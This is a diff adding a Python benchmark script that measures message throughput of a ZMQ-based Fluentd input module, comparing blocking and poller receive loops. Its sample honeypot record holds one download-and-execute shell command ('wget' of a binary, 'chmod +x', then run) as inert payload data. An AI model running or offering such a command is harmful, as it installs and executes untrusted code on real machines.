@@ -0,0 +1,125 @@
+#!/usr/bin/env python3
+"""
+Measures messages per second through FluentdZMQInputEndpointModule, from a
+local PUB socket to the module's send queue, for:
+
+ blocking - the previous loop: a blocking recv, and an emit, per message
+ poller - the module's main: a poller, draining pending messages with
+     NOBLOCK and emitting them together
+
+With --queue process the send queue is the multiprocess framework's, read
+by another process, so per-put costs are counted as they would be there.
+"""
+
+import argparse
+import multiprocessing as mp
+from queue import Queue
+import threading
+import time
+
+import msgpack
+import zmq
+
+from recursid.CommandQueueCommands import CQC_DIE
+from recursid.MultiprocessFramework import ObjectQueue
+from recursid.ObjectBatcher import unbatch
+from recursid.modules.BuiltinInputEndpointModules import \
+        FluentdZMQInputEndpointModule
+
+KEY = b"fluent"
+RECORD = {"type": "cowrie", "eventid": "cowrie.command.input",
+        "src_ip": "10.1.2.3", "session": "0123abcd",
+        "input": "cd /tmp; wget http://10.0.0.2/x86; chmod +x x86; ./x86"}
+
+def message(record):
+    return KEY + b" " + msgpack.packb([["tag", 0, record]])
+
+def blocking_main(module, endpoint):
+    context = zmq.Context()
+    subscriber = context.socket(zmq.SUB)
+    subscriber.setsockopt(zmq.RCVHWM, 0)
+    subscriber.connect(endpoint)
+    subscriber.setsockopt_string(zmq.SUBSCRIBE, KEY.decode())
+    while module.framework_still_running():
+        for record in module.records_from_message(subscriber.recv()):
+            module.emit(record)
+    subscriber.close(linger=0)
+    context.term()
+
+def count_objects(queue, count, done):
+    """
+    Read objects from queue until count arrive, then set done
+    """
+    received = 0
+    while received < count:
+        received += len(unbatch(queue.get()))
+    done.set()
+
+def run(loop, queue_type, count):
+    context = zmq.Context()
+    publisher = context.socket(zmq.PUB)
+    publisher.setsockopt(zmq.SNDHWM, 0)
+    endpoint = "tcp://127.0.0.1:{}".format(
+            publisher.bind_to_random_port("tcp://127.0.0.1"))
+
+    cmd_queue = Queue()
+    if queue_type == "process":
+        send_queue = ObjectQueue()
+        done = mp.Event()
+        counter = mp.Process(target=count_objects,
+                args=(send_queue, count, done))
+    else:
+        send_queue = Queue()
+        done = threading.Event()
+        counter = threading.Thread(target=count_objects,
+                args=(send_queue, count, done))
+    module = FluentdZMQInputEndpointModule(5, Queue(), send_queue,
+            cmd_queue, threading.Lock())
+    if loop == "blocking":
+        thread = threading.Thread(target=blocking_main,
+                args=(module, endpoint))
+    else:
+        thread = threading.Thread(target=module.run, kwargs={
+                "fluent_zmq_key": KEY.decode(), "endpoints": [endpoint],
+                "rcvhwm": 0})
+    thread.start()
+
+    # Wait for the subscription to arrive, then throw away the probes
+    while send_queue.empty():
+        publisher.send(message({"probe": "yes"}))
+        time.sleep(.01)
+    time.sleep(.1)
+    while not send_queue.empty():
+        send_queue.get()
+    counter.start()
+
+    st_time = time.perf_counter()
+    msg = message(RECORD)
+    for _ in range(count):
+        publisher.send(msg)
+    done.wait()
+    elapsed = time.perf_counter() - st_time
+
+    cmd_queue.put(CQC_DIE)
+    # Wake the blocking loop
+    publisher.send(msg)
+    thread.join()
+    counter.join()
+    publisher.close(linger=0)
+    context.term()
+    return count / elapsed
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__,
+            formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--messages", type=int, default=50000)
+    parser.add_argument("--queue", choices=["thread", "process"],
+            default="process")
+    args = parser.parse_args()
+
+    for loop in ["blocking", "poller"]:
+        print("{:<9} {:>10.0f} msgs/s".format(loop,
+                run(loop, args.queue, args.messages)))
+
+if __name__ == "__main__":
+    main()